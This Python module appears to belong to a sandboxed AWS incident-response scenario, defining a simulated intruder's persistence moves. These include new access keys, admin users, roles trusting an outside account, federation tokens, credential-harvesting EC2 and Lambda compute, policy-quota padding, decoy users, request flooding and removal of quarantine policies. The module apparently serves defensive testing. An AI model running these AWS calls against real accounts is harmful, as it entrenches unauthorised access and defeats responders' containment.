"""How a thief makes more of itself: keys, users, roles, sessions, tokens, compute; and keeps others from undoing it."""

from collections.abc import Callable, Iterable
from typing import TYPE_CHECKING, Final

from shared.sandbox.aws import clinic_policies as policies
from shared.sandbox.aws import scenario_names as names
from shared.sandbox.aws.clinic_people import role_arn
from shared.sandbox.aws.refusals import Refusal
from shared.sandbox.aws.sts_rules import compute_session

if TYPE_CHECKING:
    from shared.sandbox.aws.thief import Hand, Thief

type Move = Callable[["Thief", "Hand"], Iterable["Hand"]]
"""One thing a thief does with one set of credentials: gives the credentials it minted. Raises ClientError where it is refused."""

ALL: Final = policies.document(policies.allow(("*",)))
ABROAD: Final = f"arn:aws:iam::{names.THIEF_ACCOUNT}:root"
ANYBODY_HERE: Final = policies.trust(arns=[f"arn:aws:iam::{names.ACCOUNT}:root", ABROAD])

BOOT_SECONDS: Final = 5.0
"""What an instance takes at the very least until its credentials can be read: it is `pending` for about as long, and boots then."""


def new_key(thief: "Thief", hand: "Hand") -> Iterable["Hand"]:
    """A second way in for a user that is there."""
    user = thief.random.choice(thief.users)
    made = thief.client(hand, "iam").create_access_key(UserName=user)["AccessKey"]
    return [thief.take(f"key of {user}", made)]


def new_user(thief: "Thief", hand: "Hand") -> Iterable["Hand"]:
    """A user with every right, and a key."""
    iam, user = thief.client(hand, "iam"), thief.name("svc")
    iam.create_user(UserName=user)
    thief.users.append(user)
    iam.put_user_policy(UserName=user, PolicyName="all", PolicyDocument=ALL)
    return [thief.take(f"user {user}", iam.create_access_key(UserName=user)["AccessKey"])]


def new_role(thief: "Thief", hand: "Hand") -> Iterable["Hand"]:
    """A role with every right that lets in the account and the thief's own."""
    iam, role = thief.client(hand, "iam"), thief.name("batch")
    iam.create_role(RoleName=role, AssumeRolePolicyDocument=ANYBODY_HERE)
    thief.roles.append(role)
    iam.put_role_policy(RoleName=role, PolicyName="all", PolicyDocument=ALL)
    return ()


def assume(thief: "Thief", hand: "Hand") -> Iterable["Hand"]:
    """A session of a role, from inside or from the thief's own account; chained where the credentials are a session already."""
    role, session, holder = thief.random.choice(thief.roles), thief.name("job"), thief.random.choice([hand, thief.abroad])
    answer = thief.client(holder, "sts").assume_role(RoleArn=role_arn(role), RoleSessionName=session)
    return [thief.take(f"session {session} of {role}", answer["Credentials"])]


def federate(thief: "Thief", hand: "Hand") -> Iterable["Hand"]:
    """A federation token, which outlives the key that asked for it."""
    answer = thief.client(hand, "sts").get_federation_token(Name=thief.name("web"), Policy=ALL)
    return [thief.take(f"token of {hand.identity}", answer["Credentials"])]


def run_instance(thief: "Thief", hand: "Hand") -> Iterable["Hand"]:
    """A machine that is given the clinicians' own role, and hands its credentials out."""
    ran = thief.client(hand, "ec2").run_instances(
        ImageId="ami-0a1b2c3d4e5f60718", MinCount=1, MaxCount=1, IamInstanceProfile={"Name": names.APP_ROLE}
    )
    return _given(thief, names.APP_ROLE, "ec2.amazonaws.com", ran["Instances"][0]["InstanceId"], BOOT_SECONDS)


def run_function(thief: "Thief", hand: "Hand") -> Iterable["Hand"]:
    """A function that is given a role of the thief's own making."""
    iam, name = thief.client(hand, "iam"), thief.name("sync")
    made = iam.create_role(RoleName=name, AssumeRolePolicyDocument=policies.trust(service="lambda.amazonaws.com"))["Role"]["Arn"]
    iam.put_role_policy(RoleName=name, PolicyName="all", PolicyDocument=ALL)
    thief.client(hand, "lambda").create_function(
        FunctionName=name, Runtime="python3.13", Role=made, Handler="main.handle", Code={"ZipFile": b"PK\x05\x06" + bytes(18)}
    )
    return _given(thief, name, "lambda.amazonaws.com", name)


def _given(thief: "Thief", role: str, service: str, session: str, seconds: float = 0.0) -> Iterable["Hand"]:
    """What compute reads from its metadata so many seconds after it was started, once the role has come into force."""
    try:
        issued = compute_session(thief.cloud, role_arn(role), service, session)
    except Refusal:
        return ()
    answer = {"AccessKeyId": issued.access_key_id, "SecretAccessKey": issued.secret, "SessionToken": issued.token}
    return [thief.take(f"compute {session} under {role}", answer, seconds)]


def edit_trust(thief: "Thief", hand: "Hand") -> Iterable["Hand"]:
    """Let the thief's own account into a role that is there."""
    thief.client(hand, "iam").update_assume_role_policy(RoleName=names.BATCH_ROLE, PolicyDocument=ANYBODY_HERE)
    return ()


def console(thief: "Thief", hand: "Hand") -> Iterable["Hand"]:
    """A password for the console."""
    user = thief.random.choice(thief.users)
    thief.client(hand, "iam").create_login_profile(UserName=user, Password="Correct-Horse-1")  # noqa: S106  # pragma: allowlist secret
    return ()


def pad_user(thief: "Thief", hand: "Hand") -> Iterable["Hand"]:
    """Use up the inline quota of a user, so that no deny fits."""
    wide = policies.allow(("*",), ("*", f"arn:aws:s3:::{'a' * 1700}"))
    user = thief.random.choice(thief.users)
    thief.client(hand, "iam").put_user_policy(UserName=user, PolicyName="all", PolicyDocument=policies.document(wide))
    return ()


def decoys(thief: "Thief", hand: "Hand") -> Iterable["Hand"]:
    """Five users at once, once, to trip whoever counts incidents."""
    for _ in range(0 if any(user.startswith("decoy") for user in thief.users) else 5):
        user = thief.name("decoy")
        thief.client(hand, "iam").create_user(UserName=user)
        thief.users.append(user)
    return ()


def flood(thief: "Thief", hand: "Hand") -> Iterable["Hand"]:
    """Use up the account's request rate."""
    for _ in range(30):
        thief.client(hand, "iam").list_roles()
    return ()


def unquarantine(thief: "Thief", hand: "Hand") -> Iterable["Hand"]:
    """Take whatever inline policy is not one's own off a user."""
    iam, user = thief.client(hand, "iam"), thief.random.choice(thief.users)
    for policy in iam.list_user_policies(UserName=user)["PolicyNames"]:
        if policy not in {"all", "work"}:
            iam.delete_user_policy(UserName=user, PolicyName=policy)
    return ()
